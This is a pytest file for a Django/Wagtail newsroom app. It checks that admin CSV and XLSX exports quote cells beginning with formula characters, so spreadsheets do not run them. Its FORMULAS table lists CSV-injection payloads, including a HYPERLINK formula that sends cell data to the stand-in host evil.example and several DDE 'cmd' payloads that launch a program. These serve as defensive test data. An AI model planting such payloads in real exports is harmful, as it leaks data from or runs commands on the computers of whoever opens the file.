"""Downloads are safe to open (issue #25, C): no CSV cell any admin export writes starts like
a formula (OWASP's `=`, `+`, `-`, `@`, tab, carriage return), whichever field of the claims
or sources listing (or Wagtail's site history) the attacker's text reached; such a cell gets
a leading `'` and otherwise keeps its text. XLSX keeps the same text as a string cell."""

import csv
import io

import openpyxl
import pytest
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from newsroom.spreadsheets import FORMULA_STARTS, neutralise_cell
from tests.factories import (
    EvidenceFactory,
    OutletFactory,
    SourceFactory,
    cited_claim_block,
    claim_with_evidence,
    explainer_page,
    snippet_url,
    verified,
)

pytestmark = pytest.mark.django_db

# One payload per dangerous first character, as attackers write them.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/leak?"&A3,"Click")',
    "+": "+2+3+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# Text that starts otherwise is left exactly as it is: spreadsheets do not run these.
HARMLESS = [" =1+1", "\u00a0=1+1", "\uff1d1+1", "\u2212 2+3", "\uff20SUM(1)", "a=1", "'=1"]


def csv_cells(response):
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def assert_safe(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"live formula in {row}"


@pytest.mark.parametrize("value", list(FORMULAS.values()), ids=[repr(k) for k in FORMULAS])
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_as_it_is(value):
    assert neutralise_cell(value) == value


def test_numbers_and_dates_are_not_text_and_keep_their_value():
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(None) is None


def test_the_rule_sits_on_wagtails_export_mixin_for_every_download():
    """Every admin export (the desk's listings, Wagtail's reports) inherits it; a Wagtail
    upgrade that stops calling preprocess_field_value for CSV fails the tests below."""
    assert SpreadsheetExportMixin.preprocess_field_value.neutralises_formulas


@pytest.fixture
def hostile_desk(editor, verifier):
    """Every free-text field the two listings export holds one formula per dangerous start:
    one claim and one source per start."""
    claims = []
    for start, formula in FORMULAS.items():
        outlet = OutletFactory(name=f"{formula} outlet")
        source = SourceFactory(
            title=formula,
            outlet=outlet,
            url=f"https://example.org/{ord(start)}",
            language=formula[:16],
        )
        claim = claim_with_evidence(editor, ("supports",), statement=formula)
        EvidenceFactory(claim=claim, source=source)
        claims.append(claim)
    verifier.first_name, verifier.last_name = FORMULAS["@"], "Fier"
    verifier.save()
    decided = verified(claims[0], verifier)
    explainer_page(FORMULAS["-"], body=[cited_claim_block(decided, True)])
    return claims


def test_the_claims_csv_has_no_live_formula_in_any_field(editor_client, hostile_desk):
    rows = csv_cells(editor_client.get(snippet_url("claim", "list") + "?export=csv"))

    assert_safe(rows)
    statements = {row[0] for row in rows}
    assert {"'" + formula for formula in FORMULAS.values()} <= statements
    decided = next(row for row in rows if row[0] == "'" + FORMULAS["="])
    assert decided[2] == "'" + FORMULAS["@"] + " Fier"  # the verifier
    assert decided[4].startswith("'")  # the outlets
    assert decided[5].startswith("'")  # the sources
    assert decided[6] == "'" + FORMULAS["-"]  # the citing explainers


def test_the_sources_csv_has_no_live_formula_in_any_field(editor_client, hostile_desk):
    rows = csv_cells(editor_client.get(snippet_url("source", "list") + "?export=csv"))

    assert_safe(rows)
    hostile = [row for row in rows if row[4].startswith("https://example.org/")]
    assert len(hostile) == len(FORMULAS)
    for title, outlet, _kind, _date, _url, language, _count in hostile:
        assert title in {"'" + formula for formula in FORMULAS.values()}
        assert outlet.startswith("'") and language.startswith("'")


def test_a_url_field_is_quoted_too(editor_client, db):
    """A URL is text like any other: one stored without the importer's checks is quoted."""
    SourceFactory(title="Plain", url="=1+1")
    [row] = csv_cells(editor_client.get(snippet_url("source", "list") + "?export=csv"))
    assert row[4] == "'=1+1"


@pytest.mark.parametrize("model", ["claim", "source"])
def test_the_xlsx_keeps_the_text_as_strings_never_formulas(editor_client, hostile_desk, model):
    response = editor_client.get(snippet_url(model, "list") + "?export=xlsx")
    content = b"".join(response.streaming_content)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    # Unquoted: an XLSX string cell is text already, a quote would show.
    assert FORMULAS["="] in texts and FORMULAS["+"] in texts


def test_wagtails_site_history_csv_is_quoted_too(admin_client, db):
    source = SourceFactory(title=FORMULAS["="])
    log(instance=source, action="wagtail.edit")
    rows = csv_cells(admin_client.get("/admin/reports/site-history/?export=csv"))

    assert_safe(rows)
    assert "'" + FORMULAS["="] in [row[1] for row in rows]
